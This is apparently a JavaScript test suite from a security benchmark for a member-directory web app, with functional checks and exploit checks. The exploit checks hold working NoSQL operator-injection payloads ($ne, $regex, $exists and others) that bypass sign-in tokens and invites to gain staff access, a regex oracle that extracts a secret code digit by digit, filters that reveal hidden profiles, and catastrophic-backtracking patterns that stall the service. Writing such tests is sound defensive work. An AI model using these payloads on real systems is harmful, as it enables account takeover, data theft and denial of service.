import { exploit, functional, notice } from '#checks';
import { directory, join, linkFor, marta, staffNote } from './loft.js';

functional('joins', 'An invited guest joins, sees the own profile and nothing that is for the staff', async (t) => {
  const { session, name, phone, id } = await join(t, { skills: ['go'] });
  const me = await session.get('/me');
  t.expect(me.json()?.name === name && me.json()?.contact?.phone === phone, 'the own profile', me);
  t.expect(me.json()?.role === 'guest', 'the role of a guest', me);
  const staff = await session.get(`/members/${id}`);
  t.expect(staff.status === 403, 'the view of the staff to be closed', staff);
  const uninvited = await t.app.post('/members', {
    json: { invite: t.random('guess'), name: t.random('Eve'), city: 'Oslo', contact: { phone: '1' } },
  });
  t.expect(uninvited.status >= 400 && uninvited.status < 500, 'a guessed invite to be refused', uninvited);
});

functional('staff-invite', 'The invite for the staff opens the view of the staff', async (t) => {
  const { session } = await join(t, {}, t.canary('staff-invite'));
  const { seen, open } = await staffNote(t, session);
  t.expect(open, 'the profile with contact and notes', seen);
});

functional('link-once', 'A link signs in once, and nothing else does', async (t) => {
  const { name, phone } = await join(t);
  const token = await linkFor(t, name, phone);
  const wrong = await t.app.post('/session', { json: { name, token: t.random('guess') } });
  t.expect(wrong.status === 401, 'a wrong token to be refused', wrong);
  const session = t.app.session();
  const signedIn = await session.post('/session', { json: { name, token } });
  t.expect(signedIn.status === 200 && signedIn.json()?.name === name, 'the link to sign in', signedIn);
  const me = await session.get('/me');
  t.expect(me.json()?.name === name, 'to be signed in', me);
  const again = await t.app.post('/session', { json: { name, token } });
  t.expect(again.status === 401, 'a used link to be refused', again);
});

functional('link-by-form', 'The page behind the link signs in by a form', async (t) => {
  const { name, phone } = await join(t, { name: `Bjørn O'Hara ${t.random('&=')}` });
  const token = await linkFor(t, name, phone);
  const signedIn = await t.app.post('/session', { form: { name, token } });
  t.expect(signedIn.status === 200 && signedIn.json()?.name === name, 'the form to sign in', signedIn);
});

functional('finds-by-name', 'A name is found by its beginning, whatever characters it has', async (t) => {
  const start = t.random('Zoë (C++ & .NET)');
  const { session, name } = await join(t, { name: `${start} $mith` });
  await join(t, { name: `Dr. ${start}` });
  const query = new URLSearchParams({ name: start.toUpperCase() });
  const { answer, names } = await directory(session, query);
  t.expect(names?.length === 1 && names[0] === name, 'only the member whose name begins so', answer);
});

functional('finds-by-columns', 'Skills, dates, city, district and company narrow the search together', async (t) => {
  const city = `${t.random('Søn')} & $mart, St. John's`;
  const [district, company] = [t.random('a.b'), t.random('$company')];
  const first = await join(t, { city, district, company, skills: ['go', 'sql'] });
  const second = await join(t, { city, district, skills: ['rust'] });
  const third = await join(t, { city, skills: ['c++', 'sql'] });
  const form = (pairs) => new URLSearchParams([['city', city], ...pairs]);
  const today = new Date().toISOString().slice(0, 10);
  const cases = [
    [form([]), [first, second, third]],
    [form([['skill', 'rust'], ['skill', 'c++']]), [second, third]],
    [form([['skill', 'sql']]), [first, third]],
    [form([['skill[]', 'go'], ['skill[]', 'rust'], ['district', district]]), [first, second]],
    [form([['company', company], ['name', '']]), [first]],
    [form([['joined[from]', '2020-01-01'], ['joined[to]', '']]), [first, second, third]],
    [form([['joined[from]', '2020-01-01'], ['joined[to]', '2021-12-31']]), []],
    [form([['joined[to]', '9998-01-01'], ['joined[from]', today.slice(0, 4)], ['district', district]]), [first, second]],
    [form([['district', t.random('none')]]), []],
  ];
  for (const [query, expected] of cases) {
    const { answer, names } = await directory(first.session, query);
    const wanted = expected.map(({ name }) => name).sort();
    t.expect(JSON.stringify(names?.toSorted()) === JSON.stringify(wanted), `these members: ${wanted.join(', ')}`, answer);
  }
});

functional('sorts', 'The directory is sorted as asked', async (t) => {
  const city = t.random('Tromsø');
  const names = ['Cid', 'Abe', 'Bea'].map((name) => `${name} ${city}`);
  const people = [];
  for (const name of names) people.push(await join(t, { name, city }));
  const { answer, names: sorted } = await directory(people[0].session, new URLSearchParams({ city, sort: 'newest', page: '1' }));
  t.expect(JSON.stringify(sorted) === JSON.stringify(names.toSorted()), 'the names in order', answer);
  t.expect(!answer.text.includes('phone') && !answer.text.includes('note'), 'no private details in the directory', answer);
});

functional('hides', 'Who does not want to be listed is not found', async (t) => {
  const city = t.random('Bergen');
  const [shy, other] = [await join(t, { city }), await join(t, { city })];
  const hidden = await shy.session.put('/me/listed', { json: { listed: false } });
  t.expect(hidden.status === 200, 'the profile to be hidden', hidden);
  const { answer, names } = await directory(other.session, new URLSearchParams({ city }));
  t.expect(names?.length === 1 && names[0] === other.name, 'only the other member', answer);
  await shy.session.put('/me/listed', { json: { listed: true } });
  const { answer: back, names: both } = await directory(other.session, new URLSearchParams({ city }));
  t.expect(both?.length === 2, 'both members after the profile is listed again', back);
});

/** Has a link sent to a member of the staff, and tries to sign in without ever seeing it. */
async function signInWithout(t, options) {
  await t.app.post('/links', { json: { name: marta.name } });
  await signInAtOnce(t, options);
}

async function signInAtOnce(t, options) {
  const session = t.app.session();
  const answer = await session.post('/session', options);
  if (answer.setCookies.length === 0) return;
  const { seen, open } = await staffNote(t, session);
  if (open) t.breach('the attacker is signed in as a member of the staff, without the link', seen);
}

exploit('token-not-equal', 'The token is an object: not equal to anything', { finding: 'token-as-operator' }, (t) =>
  signInWithout(t, { json: { name: marta.name, token: { $ne: t.random('x') } } }),
);

exploit('token-in-form', 'The form names the token with brackets', { finding: 'token-as-operator' }, (t) =>
  signInWithout(t, { form: { name: marta.name, 'token[$gt]': '' } }),
);

exploit(
  'token-other-operators',
  'Less common operators take the place of the token',
  { finding: 'token-as-operator', hidden: true },
  async (t) => {
    const operators = [
      { $exists: true },
      { $nin: [t.random('x')] },
      { $regex: '^' },
      { $gte: ' ' },
      { $lt: '~' },
      { $not: { $eq: t.random('x') } },
      { $type: 'string' },
      { $in: [{ $ne: 1 }], $ne: null },
    ];
    await t.app.post('/links', { json: { name: marta.name } });
    for (const token of operators) await signInAtOnce(t, { json: { name: marta.name, token } });
    await signInAtOnce(t, { json: { name: { $regex: '^Marta' }, token: { $exists: true } } });
    await signInAtOnce(t, { form: { name: marta.name, 'token[$nin][]': t.random('x') } });
  },
);

/** Joins without a genuine invite, and looks whether this made a member of the staff. */
async function joinWithout(t, options) {
  const session = t.app.session();
  const answer = await session.post('/members', options);
  if (answer.setCookies.length === 0) return;
  const { seen, open } = await staffNote(t, session);
  if (open) t.breach('somebody without the invite for the staff belongs to the staff now', seen);
}

const applicant = (t, invite) => ({
  json: { invite, name: t.random('Eve'), city: 'Oslo', contact: { phone: t.random('+47') } },
});

exploit('invite-not-equal', 'The invite is an object: not the one for guests', { finding: 'invite-as-operator' }, (t) =>
  joinWithout(t, applicant(t, { $ne: 'loft-guest' })),
);

exploit('invite-in-form', 'A form names the invite with brackets', { finding: 'invite-as-operator' }, (t) =>
  joinWithout(t, {
    form: { 'invite[$ne]': 'loft-guest', name: t.random('Eve'), city: 'Oslo', 'contact[phone]': t.random('+47') },
  }),
);

exploit(
  'invite-other-operators',
  'Less common operators take the place of the invite',
  { finding: 'invite-as-operator', hidden: true },
  async (t) => {
    const operators = [
      { $exists: true },
      { $nin: ['loft-guest'] },
      { $regex: '^(?!loft)' },
      { $gt: '' },
      { $not: { $eq: 'loft-guest' } },
      { $not: { $regex: 'guest' } },
      { $lte: 'l' },
    ];
    for (const invite of operators) await joinWithout(t, applicant(t, invite));
  },
);

exploit(
  'hidden-profiles',
  'A search turns the condition that leaves hidden profiles out',
  { finding: 'filter-from-query' },
  async (t) => {
    const { session } = await join(t);
    const city = t.random('Ålesund');
    const shy = await join(t, { city, listed: false });
    for (const trick of ['listed[$ne]=x', 'listed[$in][]=&listed[$exists]=1', '$or[0][listed][$ne]=x', 'listed[$nin][]=x']) {
      const { answer, names } = await directory(session, `city=${encodeURIComponent(city)}&${trick}`);
      if (names?.includes(shy.name)) t.breach('profiles that their owners have hidden are found', answer);
    }
  },
);

/** Reads the beginning of a secret from whether Marta is among the members that a search finds. */
async function readNote(t, searchFor) {
  const { session } = await join(t);
  const holds = async (pattern) => {
    const { answer, names } = await directory(session, searchFor(pattern));
    return { answer, yes: names?.includes(marta.name) === true };
  };
  const [all, none] = [await holds('[0-9a-f]'), await holds('[x]')];
  if (all.yes === none.yes) return;
  let read = '';
  let answer;
  while (read.length < 4) {
    let digits = [...'0123456789abcdef'];
    while (digits.length > 1) {
      const half = digits.slice(0, digits.length / 2);
      const seen = await holds(`${read}[${half.join('')}]`);
      answer = seen.answer;
      digits = seen.yes ? half : digits.slice(half.length);
    }
    read += digits[0];
  }
  if (t.canary('safe-code').startsWith(read)) {
    t.breach(`the search tells, digit by digit, a code from a note of the staff; it begins with ${read}`, answer);
  }
}

exploit('note-by-pattern', 'A search asks about notes that only the staff see', { finding: 'filter-from-query' }, (t) =>
  readNote(t, (pattern) => `note[$regex]=${encodeURIComponent(`safe ${pattern}`)}`),
);

exploit(
  'note-by-logic',
  'The question about the notes hides in a logical operator',
  { finding: 'filter-from-query', hidden: true },
  async (t) => {
    await readNote(t, (pattern) => `$or[0][note][$regex]=${encodeURIComponent(`safe ${pattern}`)}`);
    await readNote(t, (pattern) => `$nor[][note][$not][$regex]=${encodeURIComponent(`safe ${pattern}`)}`);
    await readNote(
      t,
      (pattern) => `$expr[$regexMatch][input]=$note&$expr[$regexMatch][regex]=${encodeURIComponent(`safe ${pattern}`)}`,
    );
  },
);

exploit(
  'name-behind-number',
  'A search for a private column, without any operator',
  { finding: 'filter-from-query', hidden: true },
  async (t) => {
    const [{ session }, owner] = [await join(t), await join(t)];
    const columns = (phone) => [
      new URLSearchParams({ 'contact.phone': phone }),
      new URLSearchParams({ 'contact[phone]': phone }),
      new URLSearchParams({ phone }),
    ];
    const [right, wrong] = [columns(owner.phone), columns(t.random('+47'))];
    for (const [at, query] of right.entries()) {
      const found = await directory(session, query);
      const other = await directory(session, wrong[at]);
      if (found.names?.includes(owner.name) && !other.names?.includes(owner.name)) {
        t.breach('a phone number, which only the staff may see, leads to the name behind it', found.answer);
      }
    }
  },
);

/** Long enough for what costs twice as much with every letter to stand out on any machine, and never to last. */
const lengths = [20, 24, 28];

const baitOf = (length) => `${'a'.repeat(length)}!`;

const median = (values) => values.toSorted((a, b) => a - b)[Math.floor(values.length / 2)];

/** How long a cheap and a costly pattern take, asked in turn, so that a busy machine delays both. */
async function timed(ask) {
  const took = { plain: [], costly: [] };
  let answer;
  for (let round = 0; round < 3; round += 1) {
    for (const [kind, pattern] of [['plain', '^b+$'], ['costly', '^(a+)+$']]) {
      const began = performance.now();
      answer = await ask(pattern);
      took[kind].push(performance.now() - began);
    }
  }
  return { answer, plain: median(took.plain), costly: median(took.costly) };
}

/**
 * Whether a costly pattern takes many times as long as a cheap one, and many times as long as with a shorter text. No
 * time is given in milliseconds, as machines differ; what grows so fast is seen with one of the lengths on each.
 */
async function grows(ask, shorter) {
  const isCostly = ({ plain, costly }) => costly > 10 * plain && costly > 4 * shorter.costly;
  const first = await timed(ask);
  const again = shorter && isCostly(first) ? await timed(ask) : undefined;
  return { ...first, slow: again !== undefined && isCostly(again) };
}

// The last ones, because they keep the only thread of the app busy when they work.
exploit(
  'slow-pattern',
  'A pattern keeps the service busy for everybody',
  { finding: 'filter-from-query', hidden: true },
  async (t) => {
    const columns = ['city', 'district', 'company'];
    const shorter = {};
    for (const length of lengths) {
      const bait = baitOf(length);
      const { session } = await join(t, { city: bait, district: bait, company: bait });
      for (const column of columns) {
        const ask = (pattern) => session.get(`/directory?${column}[$regex]=${encodeURIComponent(pattern)}`);
        const seen = await grows(ask, shorter[column]);
        if (seen.slow) t.breach('one short request stops the service for a time that the attacker chooses', seen.answer);
        shorter[column] = seen;
      }
    }
  },
);

exploit(
  'slow-sign-in',
  'A pattern in place of the name does so without signing in',
  { finding: 'token-as-operator', hidden: true },
  async (t) => {
    let shorter;
    for (const length of lengths) {
      const name = baitOf(length);
      await join(t, { name });
      await t.app.post('/links', { json: { name } });
      const ask = (pattern) => t.app.post('/session', { json: { name: { $regex: pattern }, token: t.random('token') } });
      const seen = await grows(ask, shorter);
      if (seen.slow) t.breach('a stranger stops the service for a time of their own choice', seen.answer);
      shorter = seen;
    }
  },
);

const signedInAs = { staff: undefined };

function watchSignIn({ request, response }) {
  if (request.method !== 'POST' || response.json()?.role !== 'staff') return;
  if (request.path.startsWith('/session')) signedInAs.staff = 'token-as-operator';
  if (request.path.startsWith('/members')) signedInAs.staff = 'invite-as-operator';
}

/** The candidate has neither a link of the staff nor their invite. */
function becameStaff(t, finding, exchange) {
  watchSignIn(exchange);
  const { request, response } = exchange;
  if (Buffer.from(request.body, 'base64').includes(t.canary('staff-invite'))) return;
  if (request.method === 'POST' && signedInAs.staff === finding && response.json()?.role === 'staff') {
    return `signed in as ${response.json()?.name}, who belongs to the staff`;
  }
}

notice('token-as-operator', (t, exchange) => becameStaff(t, 'token-as-operator', exchange));
notice('invite-as-operator', (t, exchange) => becameStaff(t, 'invite-as-operator', exchange));

notice('filter-from-query', (t, { request, response }) => {
  if (!request.path.startsWith('/directory') || response.status !== 200) return;
  if (response.text.includes(t.canary('shy'))) return 'a profile that its owner has hidden was found';
  const asked = decodeURIComponent(request.path).match(/\b(?:note|contact|role)\b/)?.[0];
  if (asked && response.text.includes(marta.name) && !response.text.includes('Tor Nygård')) {
    return `who was found depends on "${asked}", which only the staff may see`;
  }
});
